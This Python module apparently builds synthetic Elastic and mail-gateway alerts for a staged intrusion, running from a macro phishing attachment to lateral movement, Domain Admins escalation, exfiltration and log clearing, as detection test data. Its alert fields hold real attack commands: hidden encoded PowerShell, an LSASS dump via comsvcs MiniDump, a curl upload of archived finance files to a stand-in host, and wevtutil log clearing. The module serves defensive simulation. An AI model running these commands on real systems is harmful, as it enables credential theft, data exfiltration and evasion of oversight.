"""The intrusion as Elastic's endpoint agents and the mail gateway saw it."""

from __future__ import annotations

from . import story
from .ecs import Detection, detection_alert, endpoint_alert, gateway_alert, process_block
from .journal import Journal
from .site import HOST, SERVICE_ACCOUNT, at

VICTIM = HOST[story.VICTIM]
FILES = HOST[story.FILE_SERVER]
CONTROLLER = HOST[story.DOMAIN_CONTROLLER]
SYSTEM32 = "C:\\Windows\\System32\\"
SHELL = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"

_MACRO = Detection(
    "Attachment with macro delivered", "medium", "T1566.001", "Spearphishing Attachment", "TA0001", "Initial Access"
)
_OFFICE = Detection(
    "Suspicious MS Office Child Process", "high", "T1566.001", "Spearphishing Attachment", "TA0001", "Initial Access"
)
_ENCODED = Detection(
    "Suspicious Windows Powershell Arguments", "high", "T1059.001", "PowerShell", "TA0002", "Execution"
)
_DROPPED = Detection("Malware Detection Alert", "high", "T1204.002", "Malicious File", "TA0002", "Execution")
_GROUPS = Detection(
    "Enumeration of Administrator Accounts", "low", "T1087.002", "Domain Account", "TA0007", "Discovery"
)
_TRUSTS = Detection(
    "Enumerating Domain Trusts via NLTEST.EXE", "low", "T1482", "Domain Trust Discovery", "TA0007", "Discovery"
)
_LSASS = Detection(
    "Credential Access via LSASS Memory Dump", "critical", "T1003.001", "LSASS Memory", "TA0006", "Credential Access"
)
_WMI = Detection(
    "WMI Incoming Lateral Movement",
    "medium",
    "T1047",
    "Windows Management Instrumentation",
    "TA0008",
    "Lateral Movement",
)
_REMOTE = Detection(
    "Remotely Started Services via RPC", "medium", "T1021.002", "SMB/Windows Admin Shares", "TA0008", "Lateral Movement"
)
_ACCOUNT = Detection(
    "User Added to Privileged Group in Active Directory",
    "medium",
    "T1098",
    "Account Manipulation",
    "TA0003",
    "Persistence",
)
_ARCHIVE = Detection(
    "Encrypting Files with WinRar or 7z", "medium", "T1560.001", "Archive via Utility", "TA0009", "Collection"
)
_UPLOAD = Detection(
    "Potential Data Exfiltration via Curl",
    "medium",
    "T1048",
    "Exfiltration Over Alternative Protocol",
    "TA0010",
    "Exfiltration",
)
_CLEARED = Detection(
    "Clearing Windows Event Logs", "low", "T1070.001", "Clear Windows Event Logs", "TA0005", "Defense Evasion"
)
_ECHO = Detection(
    "Suspicious Command Prompt Network Connection", "low", "T1059.003", "Windows Command Shell", "TA0002", "Execution"
)


def _entry(journal: Journal) -> None:
    time, user = at("09:38:07"), story.VICTIM_USER
    mail = {
        "direction": "inbound",
        "from": {"address": [story.MAIL_SENDER]},
        "to": {"address": [f"{user}@office.test"]},
        "subject": story.FORMULA_SUBJECT,
        "attachments": [{"file": {"name": story.DOCUMENT, "extension": "docm", "size": 71_204}}],
    }
    event = {"action": "delivered", "outcome": "success"}
    source = {"ip": story.MAIL_RELAY}
    record = gateway_alert(
        time, _MACRO, HOST["mail01"], "mail_gateway", "email", email=mail, source=source, event=event
    )
    journal.add(time, record, "phishing")
    command = f"powershell.exe -NoP -W Hidden -EncodedCommand {story.ENCODED_COMMAND}"
    block = process_block(SHELL, command, WORD)
    time = at("09:41:12.900")
    journal.add(time, endpoint_alert(time, _OFFICE, VICTIM, user, "behavior", process=block), "execution")
    time = at("09:41:13.300")
    journal.add(time, detection_alert(time, _ENCODED, VICTIM, user, process=block), "execution")
    time = at("09:41:22.150")
    dropped = {"path": story.IMPLANT, "name": "hpprint.exe", "size": 48_064, "hash": {"sha256": story.IMPLANT_SHA256}}
    event = {"action": "creation", "outcome": "success"}
    record = endpoint_alert(time, _DROPPED, VICTIM, user, "malicious_file", file=dropped, process=block, event=event)
    journal.add(time, record, "execution")


def _inside(journal: Journal) -> None:
    user = story.VICTIM_USER
    commands = (
        ("10:12:30.800", _GROUPS, "cmd.exe", story.INJECTION_COMMAND, "discovery"),
        ("10:15:11.000", _TRUSTS, "nltest.exe", "nltest /domain_trusts", "discovery"),
        (
            "11:04:17.400",
            _LSASS,
            "rundll32.exe",
            "rundll32.exe comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\d.tmp full",
            "credentials",
        ),
    )
    for clock, rule, image, command, stage in commands:
        block = process_block(SYSTEM32 + image, command, story.IMPLANT)
        if stage == "credentials":
            record = endpoint_alert(at(clock), rule, VICTIM, user, "behavior", process=block)
        else:
            record = detection_alert(at(clock), rule, VICTIM, user, process=block)
        journal.add(at(clock), record, stage)


def _spread(journal: Journal) -> None:
    block = process_block("C:\\Windows\\hpprint.exe", "C:\\Windows\\hpprint.exe -k", f"{SYSTEM32}wbem\\WmiPrvSE.exe")
    source = {"ip": VICTIM.address, "port": 55_301}
    record = detection_alert(at("12:31:42"), _WMI, FILES, SERVICE_ACCOUNT, process=block, source=source)
    journal.add(at("12:31:42"), record, "lateral")
    block = process_block("C:\\Windows\\hpprint.exe", "C:\\Windows\\hpprint.exe -k", f"{SYSTEM32}services.exe")
    source = {"ip": FILES.address, "port": 57_836}
    record = detection_alert(at("13:45:05"), _REMOTE, CONTROLLER, "SYSTEM", process=block, source=source)
    journal.add(at("13:45:05"), record, "lateral")
    event = {"category": ["iam"], "action": "added-member-to-group", "code": "4728", "outcome": "success"}
    group = {"name": "Domain Admins", "domain": "OFFICE"}
    related = {"user": [SERVICE_ACCOUNT, story.NEW_ACCOUNT]}
    record = detection_alert(
        at("13:49:11"), _ACCOUNT, CONTROLLER, SERVICE_ACCOUNT, event=event, group=group, related=related
    )
    journal.add(at("13:49:11"), record, "escalation")


def _loot(journal: Journal) -> None:
    command = f"7z.exe a -p -mhe {story.ARCHIVE} D:\\Finance\\2026\\*"
    block = process_block("C:\\ProgramData\\Contoso\\7z.exe", command, "C:\\Windows\\hpprint.exe")
    journal.add(
        at("14:55:41"), detection_alert(at("14:55:41"), _ARCHIVE, FILES, SERVICE_ACCOUNT, process=block), "collection"
    )
    command = f"curl.exe -s -k -T {story.ARCHIVE} https://{story.EXFIL_NAME}/put"
    block = process_block(f"{SYSTEM32}curl.exe", command, "C:\\Windows\\hpprint.exe")
    target = {"ip": story.EXFIL_ADDRESS, "port": 443, "domain": story.EXFIL_NAME}
    record = detection_alert(at("15:53:00.500"), _UPLOAD, FILES, SERVICE_ACCOUNT, process=block, destination=target)
    journal.add(at("15:53:00.500"), record, "exfiltration")
    block = process_block(f"{SYSTEM32}cmd.exe", story.ESCAPE_COMMAND, "C:\\Windows\\hpprint.exe")
    journal.add(
        at("16:20:58.300"),
        detection_alert(at("16:20:58.300"), _ECHO, FILES, SERVICE_ACCOUNT, process=block),
        "clean-up",
    )
    for clock, host, user in (("16:21:33.200", FILES, SERVICE_ACCOUNT), ("16:23:10.200", VICTIM, story.VICTIM_USER)):
        block = process_block(f"{SYSTEM32}wevtutil.exe", "wevtutil.exe cl Security", f"{SYSTEM32}cmd.exe")
        journal.add(at(clock), endpoint_alert(at(clock), _CLEARED, host, user, "behavior", process=block), "clean-up")


def add_intrusion(journal: Journal) -> None:
    _entry(journal)
    _inside(journal)
    _spread(journal)
    _loot(journal)
